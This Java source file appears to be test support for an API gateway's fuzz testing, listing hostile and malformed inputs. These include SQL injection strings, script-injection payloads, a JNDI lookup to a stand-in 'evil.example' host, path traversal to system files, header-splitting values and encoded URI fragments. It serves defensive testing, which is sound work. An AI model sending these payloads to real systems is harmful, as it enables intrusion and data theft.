package dev.lotussaga.gateway.attack;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/** The inputs an attacker or a broken client sends, as plain values to put anywhere. */
final class Hostile {

  private Hostile() {}

  static final List<String> TEXT =
      List.of(
          // SQL
          "' OR '1'='1",
          "'; DROP TABLE app_user; --",
          "\" OR \"\"=\"",
          "1; SELECT pg_sleep(10)--",
          "admin'--",
          "%",
          "_",
          "\\",
          "\\'",
          "') OR ('a'='a",
          // script and markup
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "]]><!--",
          // templates, lookups, format strings
          "${jndi:ldap://evil.example/a}",
          "#{7*7}",
          "{{7*7}}",
          "${7*7}",
          "{userId}",
          "{0}",
          "%s%s%s%n",
          // paths
          "../../../../etc/passwd",
          "..\\..\\windows\\win.ini",
          "/internal/accounts/1",
          // control characters
          "\u0000",
          "a\u0000b",
          "\u0007\b\u001b[31m",
          "\r\nSet-Cookie: x=1",
          "\t",
          "two\nlines",
          "\u007f",
          // unicode
          "\u202eevil",
          "\u200b",
          "\ufeff",
          "é",
          "日本語",
          "😀",
          "\ud800",
          "\udfff",
          "ｆｕｌｌ",
          "e\u0301",
          "İı",
          "ß",
          // shapes
          "",
          " ",
          "null",
          "undefined",
          "true",
          "[]",
          "{}",
          "x".repeat(65),
          "y".repeat(300),
          "z".repeat(5000),
          // 72 characters (the longest password) but 144 or 216 bytes: bcrypt counts bytes
          "ü".repeat(72),
          "密码".repeat(36));

  static final List<String> NUMBERS =
      List.of(
          "0",
          "-1",
          "-0",
          "1",
          "2147483647",
          "2147483648",
          "-2147483649",
          "9223372036854775807",
          "9223372036854775808",
          "-9223372036854775809",
          "99999999999999999999999999999999",
          "1e400",
          "-1e400",
          "1e-400",
          "0.001",
          "1.005",
          "1000000000",
          "1000000000.01",
          "1E9",
          "0x10",
          "NaN",
          "Infinity",
          "-Infinity",
          " 1",
          "1 ",
          "+1",
          "01",
          "1,5",
          "١٢٣",
          "1_000",
          "1.",
          ".5",
          "");

  static String text(Random random) {
    return pick(random, random.nextInt(4) == 0 ? NUMBERS : TEXT);
  }

  static <T> T pick(Random random, List<T> values) {
    return values.get(random.nextInt(values.size()));
  }

  /** Header values travel as bytes: non-Latin-1 text goes as its UTF-8 bytes, controls dropped. */
  static String asHeaderValue(String text) {
    String bytes =
        new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1).strip();
    StringBuilder value = new StringBuilder();
    for (char c : bytes.toCharArray()) {
      if (c == '\t' || (c >= 0x20 && c != 0x7f)) {
        value.append(c);
      }
    }
    return value.toString();
  }

  static final List<String> CONTENT_TYPES =
      List.of(
          "application/json",
          "application/json; charset=utf-16",
          "application/json; charset=x-no-such-charset",
          "application/json; charset=\"<script>\"",
          "application/json;;;",
          "application/json, text/html",
          "application/problem+json",
          "application/vnd.evil+json",
          "application/xml",
          "application/x-www-form-urlencoded",
          "multipart/form-data",
          "multipart/form-data; boundary=----x",
          "text/plain",
          "text/html",
          "*/*",
          "application/*",
          "json",
          "'; DROP TABLE app_user; --",
          "application/json; boundary=\u00e9",
          "");

  static final List<String> ACCEPTS =
      List.of(
          "text/html",
          "application/xml",
          "*/*",
          "application/json;q=0",
          "image/png",
          "application/problem+xml",
          "text/event-stream",
          "<script>",
          "");

  static final List<String> METHODS =
      List.of("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "TRACE", "PROPFIND");

  static final List<String> HEADER_NAMES =
      List.of(
          "X-Forwarded-For",
          "X-Forwarded-Host",
          "X-Forwarded-Proto",
          "X-Original-URL",
          "X-Rewrite-URL",
          "X-HTTP-Method-Override",
          "Origin",
          "Referer",
          "Cookie",
          "User-Agent",
          "Accept-Language",
          "Accept-Charset",
          "Accept-Encoding",
          "Range",
          "If-None-Match",
          "X-Requested-With",
          "Idempotency-Key");

  /** Fragments already in URI syntax, put into a path or query as they are. */
  static final List<String> RAW_URI_FRAGMENTS =
      List.of(
          "..",
          ".",
          "%2e%2e",
          "..%2f..%2fetc",
          "%2F",
          "%5C",
          "%00",
          "%ff",
          "%c0%ae%c0%ae",
          "%252e",
          ";x=1",
          "a;jsessionid=1",
          "%0d%0aSet-Cookie:x",
          "%e2%80%ae",
          "%f0%9f%98%80",
          "",
          "//",
          "a/b");
}
